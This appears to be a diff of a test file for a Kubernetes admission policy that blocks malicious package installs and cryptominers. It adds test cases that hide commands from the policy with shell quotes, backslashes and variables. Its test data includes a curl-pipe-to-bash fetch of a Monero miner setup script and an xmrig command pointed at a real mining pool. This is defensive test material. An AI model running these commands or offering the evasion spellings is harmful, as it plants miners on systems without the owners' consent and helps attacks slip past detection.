@@ -374,6 +374,9 @@ t.test("malicious-packages' gate: an installer program cannot be named so that t
     { env: [{ name: 'CMD', value: `python -m pip install ${pinned}` }], command: ['sh', '-c', '$CMD'] },
     { lifecycle: { postStart: { exec: { command: ['pip', 'install', pinned] } } } },
     { livenessProbe: { exec: { command: ['sh', '-c', `pip install ${pinned} && true`] } } },
+    // The shell removes a backslash-newline and quotes inside a word before pip sees its words.
+    { command: ['sh', '-c', `pip install \\\n  ${pinned}`] },
+    { command: ['sh', '-c', `p''ip install "ultra"lytics==8.3.41`] },
   ] as Partial<V1Container>[]) {
     refusedAsPackage(t, container)
   }
@@ -387,7 +390,6 @@ t.test("malicious-packages' gate: an installer program cannot be named so that t
 
 t.test('installs the package reader does not read yet are refused', async (t) => {
   for (const container of [
-    { command: ['sh', '-c', 'pip install \\\n  ultralytics==8.3.41'] },
     { command: ['npm', 'inst', '@rspack/core@1.1.7'] },
     { command: ['npm', 'exec', '--yes', '--', '@rspack/cli@1.1.7'] },
     { command: ['yarn', 'dlx', '@rspack/cli@1.1.7'] },
@@ -395,7 +397,6 @@ t.test('installs the package reader does not read yet are refused', async (t) =>
     { command: ['uvx', 'ultralytics@8.3.41'] },
     { command: ['uv', 'run', '--with', 'ultralytics==8.3.41', 'yolo'] },
     { command: ['npm', 'install', 'x@npm:@rspack/core@1.1.7'] },
-    { command: ['sh', '-c', "p''ip install ultralytics==8.3.41"] },
   ] as Partial<V1Container>[]) {
     const name = JSON.stringify(container)
     // The gate is not the cause: the ungated read misses them too.
@@ -436,19 +437,31 @@ t.test("miner-images' cut-by-position parsing and account lookup: every spelling
 })
 
 t.test('quotes and backslashes the shell removes inside a word do not hide a miner', async (t) => {
-  const todo = 'evasion found, see report: no reader removes shell quotes inside a word (no gate is the cause)'
+  const env = [{ name: 'D', value: '.' }]
   for (const script of [
+    `curl -sL https://raw.githubusercontent"\${D}"com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash`,
+    `/tmp/x''mrig -o pool.supportxmr.com -u ${W} -k`,
     `curl -sL https://raw.githubusercontent"."com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s ${W}`,
     `/usr/local/bin/svc -o pool.example.net":"3333 -u worker1 -k`,
     `/usr/local/bin/svc '-'o pool.example.net:3333 -u worker1 -k`,
     `/usr/local/bin/svc -\\o pool.example.net:3333 -u worker1 -k`,
   ]) {
-    // The gate is not the cause: the ungated grammar and installer search miss them too.
-    const container = { command: ['sh', '-c', script] }
+    // Gated and ungated still agree on every text, the shell-unquoted one among them.
+    const container = { env, command: ['sh', '-c', script] }
     t.same(gateDiffers(container), [], script)
     t.same(findGated(textsOf(container)), findUngated(textsOf(container)), script)
-    t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', script, { todo })
+    t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', script)
   }
+  t.same(
+    textsOf({ env, command: ['/usr/local/bin/svc', '--name="a b"'] }).map((text) => text.field),
+    ['env[0].value', 'command[0]', 'command[1]', 'command[1] (shell-unquoted)'],
+    'a quoted item is read once more, unquoted',
+  )
+  t.same(
+    textsOf({ env: [{ name: 'Q', value: "it's" }], command: ['/usr/local/bin/svc', '--flag'] }).map((text) => text.field),
+    ['env[0].value', 'command[0]', 'command[1]'],
+    'an env value keeps its quotes: a shell does not remove quotes from what it expands',
+  )
 })
 
 const signalLists = await defaultSignalData()
